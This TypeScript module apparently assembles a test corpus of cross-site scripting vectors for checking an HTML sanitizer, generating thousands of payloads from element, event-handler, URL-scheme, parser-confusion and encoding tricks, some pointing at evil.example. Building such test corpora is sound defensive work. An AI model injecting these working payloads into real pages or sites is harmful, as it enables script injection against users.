import evasion from './fixtures/xss/filter-evasion.json' with { type: 'json' }
import naughty from './fixtures/xss/naughty-strings.json' with { type: 'json' }

/** Text that breaks programs: 481 strings of the Big List of Naughty Strings. */
export const NAUGHTY_STRINGS: readonly string[] = naughty

const split = (text: string): string[] => text.trim().split(/\s+/u)

const HTML_ELEMENTS = split(`
  a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button
  canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div dl dt element em
  embed fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr html i iframe image
  img input ins isindex kbd keygen label legend li link listing main map mark marquee menu menuitem meta meter multicol nav
  nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q rb rp
  rt rtc ruby s samp script search section select selectedcontent shadow slot small source spacer span strike strong style sub
  summary sup table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp x-made-up`)
const SVG_ELEMENTS = split(`
  a animate animateMotion animateTransform circle clipPath defs desc ellipse feImage filter foreignObject g image line
  linearGradient marker mask metadata path pattern polygon polyline rect script set stop style svg switch symbol text textPath
  title tspan use view`)
const MATH_ELEMENTS = split(`
  annotation annotation-xml maction malignmark math menclose merror mfenced mfrac mglyph mi mn mo mover mphantom mprescripts mroot
  mrow ms mspace msqrt mstyle msub mtable mtd mtext mtr munder semantics`)
const HANDLERS = split(`
  onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy
  onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce
  oncancel oncanplay oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextlost
  oncontextmenu oncontextrestored oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragexit ondragleave
  ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror onfilterchange onfinish onfocus onfocusin
  onfocusout onformdata onfullscreenchange ongesturestart ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress
  onkeyup onlanguagechange onload onloadeddata onloadedmetadata onloadend onloadstart onlostpointercapture onmessage onmousedown
  onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ononline onpagehide onpagereveal
  onpageshow onpageswap onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove
  onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onpropertychange onratechange onreadystatechange
  onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onscrollsnapchanging onsearch onsecuritypolicyviolation
  onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange onstalled onstart onstorage onsubmit onsuspend
  ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun
  ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationend onwebkitmouseforcechanged
  onwebkittransitionend onwheel onzoom`)
const ADDRESS_ATTRIBUTES = split(`
  href src action formaction data xlink:href srcdoc srcset poster background cite codebase longdesc manifest ping profile usemap
  archive classid dynsrc lowsrc code from to values by content icon`)

/** Attributes that run the most common handlers without user interaction. */
const AUTORUN = 'src=x href=x autofocus tabindex=1 open contenteditable'

function elementVectors(): string[] {
  return [
    ...HTML_ELEMENTS.flatMap((name) => [
      `<${name} ${AUTORUN} onerror=alert(1) onload=alert(1) onfocus=alert(1) ontoggle=alert(1) style="position:fixed;inset:0" class="fixed inset-0" id=root name=body target=_top>x</${name}>`,
      `<${name.toUpperCase()}/onfocus=alert(1)/autofocus/tabindex=1/`,
      `<${name}><img src=x onerror=alert(1)></${name}>`,
      `</${name}><svg onload=alert(1)>`,
      `<${name} title="</${name}><img src=x onerror=alert(1)>">`,
      `<svg><${name}><style><!--</style><img src=x onerror=alert(1)>--></style></${name}></svg>`,
      `<math><${name}><img src=x onerror=alert(1)></${name}></math>`,
    ]),
    ...SVG_ELEMENTS.flatMap((name) => [
      `<svg><${name} onload=alert(1) onbegin=alert(1) attributeName=x dur=1s xlink:href="javascript:alert(1)" href="javascript:alert(1)">x</${name}></svg>`,
      `<svg><${name}><p><style><img title="</style><img src=x onerror=alert(1)>"></style></${name}></svg>`,
      `<svg><a><${name} attributeName=href values="javascript:alert(1)" to="javascript:alert(1)"/><text y=20>x</text></a></svg>`,
    ]),
    ...MATH_ELEMENTS.flatMap((name) => [
      `<math><${name} href="javascript:alert(1)" xlink:href="javascript:alert(1)" onclick=alert(1) autofocus tabindex=1 onfocus=alert(1)>x</${name}></math>`,
      `<math><${name} encoding="text/html"><style><img src=x onerror=alert(1)></style></${name}></math>`,
      `<math><mtext><table><${name}><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
    ]),
  ]
}

function handlerVectors(): string[] {
  return HANDLERS.flatMap((name) => [
    `<p ${name}=alert(1)>x</p>`,
    `<a href="https://a.example/" ${name.toUpperCase()}="alert(1)">x</a>`,
    `<img src=x ${name}\u000c=\t'alert(1)'>`,
    `<svg ${name}=alert(1)><rect ${name}=alert(1) /></svg>`,
    `<x-made-up ${AUTORUN} ${name}="alert(1)" style="animation:x 1s;transition:all 1s">x</x-made-up>`,
  ])
}

const SCHEMES = split(
  'javascript vbscript livescript mocha data blob file filesystem view-source jar feed about ftp tel ws',
)

/** Spellings of a URL scheme that some browser accepted. */
function schemeSpellings(scheme: string): string[] {
  const [first = '', ...rest] = scheme
  const tail = rest.join('')
  return [
    scheme,
    scheme.toUpperCase(),
    ` ${scheme}`,
    `\u0001${scheme}`,
    `\u0000${scheme}`,
    `\u00a0${scheme}`,
    `\u2028${scheme}`,
    `\ufeff${scheme}`,
    `${first}\t${tail}`,
    `${first}\n${tail}`,
    `${first}&#13;${tail}`,
    `${first}&Tab;${tail}`,
    `${first}\u0000${tail}`,
    `${first}\u00ad${tail}`,
    `&#${first.charCodeAt(0)}${tail}`,
    `&#x${first.charCodeAt(0).toString(16)};${tail}`,
    `&#0000${first.charCodeAt(0)};${tail}`,
    `%${first.charCodeAt(0).toString(16)}${tail}`,
    `\\u00${first.charCodeAt(0).toString(16)}${tail}`,
    `https:${scheme}`,
    `https://a.example\n${scheme}`,
    `mailto\u0000:${scheme}`,
    `\u0000https:${scheme}`,
  ]
}

function addressVectors(): string[] {
  return [
    ...SCHEMES.flatMap((scheme) =>
      schemeSpellings(scheme).map(
        (written) => `<a href="${written}:alert(1)//text/html,<script>alert(1)</script>">x</a>`,
      ),
    ),
    ...ADDRESS_ATTRIBUTES.flatMap((name) => [
      `<a ${name}="javascript:alert(1)">x</a>`,
      `<p ${name}="javascript:alert(1)">x</p>`,
      `<iframe ${name}="javascript:alert(1)"></iframe>`,
      `<object ${name}="data:text/html,<script>alert(1)</script>"></object>`,
      `<form ${name}="javascript:alert(1)"><button ${name}="javascript:alert(1)" autofocus onfocus=this.click()>x</button></form>`,
    ]),
    ...split(
      '//evil.example /api/auth/logout ?logout #root \\\\evil.example /\\evil.example ./x ../x :80 //[ https: https:/ mailto:',
    ).map((address) => `<a href="${address}">x</a>`),
  ]
}

/** Markup that two parsers, or one parser run twice, read differently. */
function parserVectors(): string[] {
  const run = '<img src=x onerror=alert(1)>'
  const hosts = split(
    'svg math svg><desc svg><title svg><foreignObject math><mtext math><mi math><annotation-xml table table><tr><td select',
  )
  const raw = split(
    'style xmp iframe noembed noframes noscript plaintext script textarea title template listing comment',
  )
  return [
    ...hosts.flatMap((host) =>
      raw.flatMap((name) => [
        `<${host}><${name}>${run}</${name}>`,
        `<${host}><${name}><!--</${name}>${run}-->`,
        `<${host}><${name}><a title="</${name}>${run}">`,
        `<${host}><${name}>&lt;/${name}&gt;${run.replaceAll('<', '&lt;')}`,
      ]),
    ),
    ...raw.flatMap((outer) => raw.map((inner) => `<${outer}><${inner}></${outer}>${run}</${inner}>`)),
    ...split('--> --!> -> > --!- ]]> ?> %> *}').flatMap((end) => [
      `<!--${end}${run}-->`,
      `<!-- <p title="${end}${run}"> -->`,
      `<![CDATA[${end}${run}]]>`,
      `<svg><![CDATA[</svg>${end}${run}]]>`,
      `<!x ${end}${run}>`,
      `<?x ${end}${run}>`,
      `</ ${end}${run}>`,
    ]),
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><math href="javascript:alert(1)">x</math>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
    '<form><input name=attributes><input name=nodeName><input name=parentNode><p>x</form>',
    '<p id=documentElement><p name=cookie><p id=body><a id=location href="https://a.example/">x</a>',
    '<b><a href="https://a.example/"><b><p><a href="javascript:alert(1)">x</b></a></p>',
    '<table><a href="javascript:alert(1)"><tr><td><a href="javascript:alert(1)">x</table></a>',
    '<p <script>alert(1)</script>><img/**/src=x/**/onerror=alert(1)>',
    '<\u0000script>alert(1)</script><scr\u0000ipt>alert(1)</script><img src=x on\u0000error=alert(1)>',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
    '&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;',
    '<a href="https://a.example/&quot; onclick=alert(1) x=&quot;">x</a>',
    "<a href='https://a.example/\"><script>alert(1)</script>'>x</a>",
    '<a href=`https://a.example/` onclick=`alert(1)`>x</a>',
    '<p>\u0338</p><p>&gt;\u0338</p><\u0338p>x',
    '<div style="width:expression(alert(1));behavior:url(x);-moz-binding:url(x);background:url(https://evil.example/x)">x</div>',
    '<link rel=stylesheet href=https://evil.example/x.css><style>@import "https://evil.example/x.css"</style>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href=https://evil.example/>',
    `<template shadowrootmode=open>${run}<slot></slot></template>`,
    `<p is=x-made-up part=x slot=x data-x=x aria-label=x role=alert popover itemprop=x lang=x dir=rtl hidden>x</p>`,
  ]
}

/** Markup that ran somewhere or tries to: public lists and combinations of known tags and handlers. No duplicates. */
export const XSS_VECTORS: readonly string[] = [
  ...new Set([
    ...evasion,
    ...naughty,
    ...parserVectors(),
    ...elementVectors(),
    ...handlerVectors(),
    ...addressVectors(),
  ]),
].filter((vector) => vector.trim() !== '')
